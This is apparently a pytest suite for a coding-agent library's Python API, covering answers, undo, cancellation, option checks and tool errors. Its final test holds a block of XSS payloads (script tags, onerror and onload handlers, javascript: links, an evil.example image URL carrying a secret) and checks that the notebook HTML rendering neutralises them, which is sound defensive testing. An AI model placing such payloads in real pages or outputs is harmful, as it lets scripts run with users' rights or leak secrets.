"""If these fail, a script or a notebook gets no answer, a broken session, or a page that a model takes over."""

from __future__ import annotations

import asyncio
import io
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, cast

import anyio
import pytest

import newel
from newel.agent.errors import ConnectionFailed, UsageError, WorkspaceError
from newel.agent.messages import AssistantMessage, Attachment, ToolResultMessage, UserMessage
from newel.agent.ports import OnOutput
from newel.review.model.history import NothingToUndo
from newel.tools.todo import TodoTool
from newel.workspace.sandbox.policy import SandboxMode
from tests.requirements import require_program
from tests.served import wait_until
from tests.support import Newel, bash, scenario

Make = Callable[..., Newel]


class ComplexParameters(newel.Parameters, frozen=True):
    number: complex


class NamelessTool(newel.TypedTool[ComplexParameters]):
    label = description = "incomplete"
    parameters = ComplexParameters

    async def serial_key(self, arguments: ComplexParameters, /) -> None: ...

    async def preview(self, arguments: ComplexParameters, /) -> str:
        return "do it"

    async def execute(self, arguments: ComplexParameters, on_output: OnOutput, /) -> Any: ...


class ComplexTool(NamelessTool):
    name = "complex"
    read_only = True


EDITS = scenario("edit", bash("echo a > a.txt; rm b.txt"), {"content": "Edited."})


@pytest.fixture
def with_model(with_model: Make, monkeypatch: pytest.MonkeyPatch) -> Make:
    """As for commands, in this process: its settings and its folder."""

    def make(*arguments: object) -> Newel:
        rig = with_model(*arguments)
        for name in ("LLM_BASE_URL", "LLM_AUTH_TOKEN", "LLM_DEFAULT_MODEL"):
            monkeypatch.setitem(os.environ, name, rig.environ[name])
        monkeypatch.setitem(os.environ, "NEWEL_HOME", str(rig.home / ".newel"))
        monkeypatch.chdir(rig.project)
        (rig.project / "b.txt").write_text("b\n")
        return rig

    return make


def test_an_answer_has_the_text_the_messages_the_changes_and_the_costs(
    with_model: Make, capsys: pytest.CaptureFixture[str]
) -> None:
    rig = with_model(EDITS)
    answer = newel.ask("edit")
    assert (answer.text, str(answer), answer.reason, answer.problem) == ("Edited.", "Edited.", "done", "")
    assert [type(message) for message in answer.messages] == [
        UserMessage,
        AssistantMessage,
        ToolResultMessage,
        AssistantMessage,
    ]
    assert [(file.file_path, file.change) for file in answer.changes] == [
        ("a.txt", "created"),
        ("b.txt", "deleted"),
    ]
    assert answer.changes[0].hunks
    assert "+a" in answer.changes[0].patch
    assert answer.usage.total > 0
    assert answer.cost is None
    assert answer.session in rig.sessions[0].name
    assert repr(answer) == "Answer('Edited.', changes=['a.txt', 'b.txt'], reason='done')"
    assert capsys.readouterr().out == "", "progress was not asked for"


def test_progress_is_printed_on_request_and_controls_no_terminal(
    with_model: Make, capsys: pytest.CaptureFixture[str]
) -> None:
    with_model(scenario("go", {"content": "Hi\x1b]0;title\x07 there."}))
    answer = newel.ask("go", progress=True)
    assert "Hi there." in capsys.readouterr().out
    assert str(answer) == "Hi there."
    assert answer.text == "Hi\x1b]0;title\x07 there."


def test_progress_ends_no_run_where_it_cannot_be_printed(
    with_model: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An arrow in an answer would abort the agent's work in a console with another encoding."""
    with_model(scenario("go", {"content": "a \u2192 b"}))
    printed = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(printed, encoding="ascii", write_through=True))
    assert newel.ask("go", progress=True).reason == "done"
    assert b"a ? b" in printed.getvalue()
    monkeypatch.setattr(sys, "stdout", None)
    assert newel.ask("go", progress=True).reason == "done"


@pytest.mark.parametrize("approve", ["auto", "review"])
def test_an_answer_can_be_undone_once(with_model: Make, approve: Any) -> None:
    rig = with_model(EDITS)
    answer = newel.ask("edit", approve=approve)
    assert (rig.project / "a.txt").exists() == (approve == "auto")
    assert answer.undo() == ["a.txt", "b.txt"]
    assert [path.name for path in rig.project.iterdir()] == ["b.txt"]
    with pytest.raises(NothingToUndo):
        answer.undo()
    assert rig("review", "--check").returncode == 0


def test_changes_that_were_not_recorded_cannot_be_undone(with_model: Make) -> None:
    with_model(EDITS)
    answer = newel.ask("edit", ephemeral=True)
    assert answer.changes
    with pytest.raises(NothingToUndo):
        answer.undo()


@pytest.mark.anyio
async def test_it_works_where_a_loop_is_running_as_in_a_notebook(with_model: Make) -> None:
    rig = with_model(EDITS)
    answer = newel.ask("edit")
    assert answer.undo() == ["a.txt", "b.txt"]
    again = await newel.aask("edit", session=answer.session)
    assert again.session == answer.session
    assert len(rig.sessions) == 1
    assert await again.aundo() == ["a.txt", "b.txt"]


@pytest.mark.anyio
async def test_a_cancelled_question_ends_its_command(with_model: Make) -> None:
    rig = with_model(scenario("wait", bash("echo $$ > pid; sleep 60")))
    pid = rig.project / "pid"

    async def cancel_once_begun(scope: anyio.CancelScope) -> None:
        while not (pid.exists() and pid.read_text().strip()):  # noqa: ASYNC110 — a file sends no notification
            await anyio.sleep(0.01)
        scope.cancel()

    with anyio.fail_after(9):
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(cancel_once_begun, tasks.cancel_scope)
            await newel.aask("wait")
    assert not (Path("/proc") / pid.read_text().strip()).exists()


def test_ctrl_c_aborts_the_run_and_leaves_a_session_that_can_be_continued(with_model: Make) -> None:
    rig = with_model(
        {
            "scenarios": scenario("wait", bash("echo $$ > pid; sleep 60"))["scenarios"]
            + scenario("more", {"content": "More."})["scenarios"]
        }
    )
    code = "import newel\ntry: newel.ask('wait')\nexcept KeyboardInterrupt: print('interrupted')\n"
    code += "print(newel.ask('more', continue_=True))"
    environ = rig.environ | {"NEWEL_HOME": str(rig.home / ".newel")}
    with subprocess.Popen(
        [sys.executable, "-c", code], cwd=rig.project, env=environ, stdout=subprocess.PIPE, text=True
    ) as program:
        try:
            pid = rig.project / "pid"
            wait_until(lambda: pid.exists() and pid.read_text().strip(), "the command")
            program.send_signal(signal.SIGINT)
            assert program.communicate(timeout=20)[0] == "interrupted\nMore.\n"
        finally:
            program.kill()
    assert not (Path("/proc") / pid.read_text().strip()).exists()
    sent = rig.requests[-1]["messages"]
    assert [message["role"] for message in sent][1:] == ["user", "assistant", "tool", "user"]


def test_a_limit_ends_the_run_and_the_answer_says_so(with_model: Make) -> None:
    with_model(scenario("edit", bash("echo a > a.txt"), {"content": "Edited."}))
    answer = newel.ask("edit", max_turns=1)
    assert answer.reason == "max_turns"
    assert "turn" in answer.problem


def test_a_server_that_is_not_there_is_an_error_of_newel(with_model: Make) -> None:
    rig = with_model()
    (rig.home / ".newel").mkdir()
    (rig.home / ".newel" / "config.toml").write_text("[retry]\nattempts = 1\n")
    with pytest.raises(ConnectionFailed):
        newel.ask("hi", base_url="http://127.0.0.1:1/v1")


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (
            {"approve": "everything"},
            "approve: invalid value 'everything'; valid values are auto, ask, review, plan, read-only",
        ),
        ({"model": 5}, "model: expected a string, got a whole number"),
        (
            {"tools": [print]},
            "tools: <built-in function print> is not a tool; derive yours from `newel.TypedTool`",
        ),
        ({"tools": [TodoTool]}, "tools: TodoTool is a class; give an instance of it"),
        ({"tools": [NamelessTool()]}, "tools: NamelessTool has no `name`, `read_only`"),
        (
            {"tools": [ComplexTool()]},
            "tools: ComplexTool has a parameter that no model can give: type <class 'complex'>",
        ),
        ({"schema": {"type": "text"}}, "schema is not a valid JSON Schema: [$].type: 'text' is not valid"),
        ({"schema": "shape.json"}, "schema must be a dict"),
        ({"max_turns": 0}, "max_turns is 0"),
        ({"max_cost": float("nan")}, "max_cost is nan"),
        ({"continue_": True, "ephemeral": True}, "cannot be combined"),
    ],
)
def test_a_wrong_option_is_refused_before_anything_runs(with_model: Make, options: Any, message: str) -> None:
    rig = with_model(EDITS)
    with pytest.raises(UsageError, match=message):
        newel.ask("edit", **options)
    with pytest.raises(UsageError, match="prompt is empty"):
        newel.ask(" \n")
    assert rig.requests == []


@pytest.mark.anyio
async def test_an_agent_may_be_closed_in_another_task(with_model: Make) -> None:
    """As the fixtures of a test are, and a generator that nobody reads to its end."""
    require_program("bwrap", "bubblewrap")
    with_model(scenario("hi", {"content": "Hello."}))
    opened = newel.open_coding_agent(ephemeral=True, sandbox="workspace")
    agent = await asyncio.create_task(opened.__aenter__())
    assert (await agent.prompt("hi")).reason == "done"
    await asyncio.create_task(opened.__aexit__(None, None, None))


@pytest.mark.anyio
async def test_a_prompt_that_would_spoil_the_session_is_refused(with_model: Make) -> None:
    """Other libraries take blocks, bytes and paths. In a session's file they would fail every later request, and be lost on a resume."""
    with_model(EDITS)
    image = Attachment("image", "a.png", "image/png", 3, "no base64!")
    async with newel.open_coding_agent(ephemeral=True) as agent:
        for prompt, words in (
            ((b"hi",), "The prompt is of the type bytes"),
            (([{"type": "text", "text": "hi"}],), "The prompt is of the type list"),
            (("hi", ["a.png"]), "attachments: 'a.png' is no `Attachment`"),
            (("hi", [image]), "The attachment 'a.png' cannot be used: its content is not base64"),
        ):
            with pytest.raises(UsageError, match=words):
                await agent.prompt(*cast("tuple[Any]", prompt))
        with pytest.raises(UsageError, match=r"'hi' is no message\. Give a `UserMessage`"):
            await agent.queue_message(cast("UserMessage", "hi"))
        assert (agent.get_messages(), agent.queue.steer) == ([], [])
    with pytest.raises(UsageError, match="The prompt is of the type int"):
        newel.ask(cast("str", 5))


@pytest.mark.parametrize("sandbox", ["workspace", "off"])
def test_a_folder_that_is_missing_is_named_not_the_sandbox(with_model: Make, sandbox: SandboxMode) -> None:
    """If this fails, a slip in a path is answered by the advice to do without the sandbox."""
    with_model()
    with pytest.raises(
        WorkspaceError, match=r"^/no/such/folder is not a directory\. Name one that exists\.$"
    ):
        newel.ask("hi", working_directory="/no/such/folder", sandbox=sandbox)


async def _word(request: newel.ApprovalRequest) -> Any:
    return request.kind and "once"


def _plain(request: newel.ApprovalRequest) -> Any:
    return newel.Approval("once" if request.kind else "no")


@pytest.mark.parametrize(
    ("ask", "message"),
    [
        (_word, "ask returned 'once'; return a `newel.Approval`."),
        (_plain, "ask has to be an `async` function that returns a `newel.Approval`."),
    ],
)
def test_an_answer_of_a_wrong_type_runs_nothing_and_says_what_to_return(
    with_model: Make, ask: Any, message: str
) -> None:
    rig = with_model(scenario("go", bash("touch made"), {"content": "Done."}))
    with pytest.raises(UsageError, match=re.escape(message)):
        newel.ask("go", approve="ask", ask=ask)
    assert not (rig.project / "made").exists()


def test_a_file_is_attached_by_its_path_unless_it_is_secret(with_model: Make) -> None:
    rig = with_model(scenario("read", {"content": "Read."}))
    newel.ask("read", attachments=[Path("b.txt")])
    assert "b\n" in str(rig.requests[0]["messages"][-1]["content"][1]["text"])
    (rig.project / "config.toml").symlink_to(rig.home / ".newel" / "config.toml")
    (rig.home / ".newel" / "config.toml").write_text("api_key = 'secret'\n")
    with pytest.raises(WorkspaceError, match="secret"):
        newel.ask("read", attachments=[Path("config.toml")])


COUNT = {"type": "object", "properties": {"files": {"type": "integer"}}, "required": ["files"]}


@pytest.mark.parametrize(
    ("corrected", "value", "problem"),
    [
        ('{"files": 3}', {"files": 3}, ""),
        ('{"files": "3"}', None, "The answer does not fit the schema: $.files: '3' is not of type 'integer'"),
    ],
)
def test_an_answer_has_the_shape_that_the_program_asks_for(
    with_model: Make, corrected: str, value: Any, problem: str
) -> None:
    asked = scenario("count", {"content": "Three files."})["scenarios"]
    with_model({"scenarios": asked + scenario("fit the JSON Schema", {"content": corrected})["scenarios"]})
    answer = newel.ask("count", schema=COUNT)
    assert (answer.value, answer.text, answer.problem) == (value, corrected, problem)


def test_a_tool_that_returns_no_result_is_an_error_result(with_model: Make) -> None:
    """Else a forgotten `return` ends the run, and says nothing of the tool."""

    class Nothing(newel.Parameters, frozen=True):
        pass

    class Forgetful(newel.TypedTool[Nothing]):
        name = label = description = "forgetful"
        read_only = True
        parameters = Nothing

        async def serial_key(self, arguments: Nothing, /) -> None: ...

        async def preview(self, arguments: Nothing, /) -> str:
            return "forget"

        async def execute(self, arguments: Nothing, on_output: OnOutput, /) -> Any: ...

    with_model(
        scenario(
            "go",
            {"tool_calls": [{"function": {"name": "forgetful", "arguments": {}}}]},
            {"content": "I see."},
        )
    )
    answer = newel.ask("go", tools=[Forgetful()])
    results = [message.output for message in answer.messages if isinstance(message, ToolResultMessage)]
    assert results == ["TypeError: Forgetful.execute returned a NoneType, not a ToolResult"]
    assert answer.text == "I see."


def test_a_tool_whose_name_is_taken_is_refused(with_model: Make) -> None:
    with_model()
    mine = newel.coding_tools(newel.LocalWorkspace("."))[:1]
    with pytest.raises(UsageError, match="has a tool `read` already"):
        newel.ask("hi", tools=mine)


class Elements(HTMLParser):
    """The elements of a page and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


HOSTILE = """
<script>alert(1)</script> <img src=x onerror=alert(1)> ![x](https://evil.example/x.png?secret) [a](javascript:alert(1))
[b](data:text/html,<script>alert(1)</script>) [c](https://example.org "onmouseover=alert(1)") <https://example.org/"><script>>
[d]: javascript:alert(1) "x"
[d]

```py"><script>alert(1)</script>
</code></pre><script>alert(1)</script>
```

| a<script> | b |
|---|---|
| <svg onload=alert(1)> | ![y][z] |

[z]: https://evil.example/y.png
$\\href{javascript:alert(1)}{x}$ &lt;script&gt;
"""


def test_nothing_that_a_model_wrote_acts_in_a_notebook(with_model: Make) -> None:
    """A notebook's page has the user's rights: a script in it can run code in the kernel."""
    writes = bash("echo '</pre><script>alert(1)</script>' > '<script>alert(1)'")
    with_model(scenario("go", writes, {"content": HOSTILE}))
    answer = newel.ask("go")
    assert [file.file_path for file in answer.changes] == ["<script>alert(1)"]
    page = Elements()
    show: Callable[[], str] = getattr(answer, "_repr_html_")  # noqa: B009 — Jupyter calls it so
    html = show()
    page.feed(html)
    tags = {tag for tag, _ in page.found}
    assert tags <= {
        *("div", "p", "pre", "code", "a", "details", "summary", "small", "strong", "em"),
        *("table", "thead", "tbody", "tr", "th", "td", "br"),
    }
    attributes = {(tag, key) for tag, attrs in page.found for key in attrs}
    assert attributes <= {("div", "class"), ("code", "class"), ("a", "href"), ("a", "title")}
    links = [attrs["href"] or "" for tag, attrs in page.found if tag == "a"]
    assert links
    assert all(re.match(r"https?://", link) for link in links)
    assert 'class="newel-answer mathjax_ignore tex2jax_ignore"' in html
    assert not hasattr(answer, "_repr_markdown_")
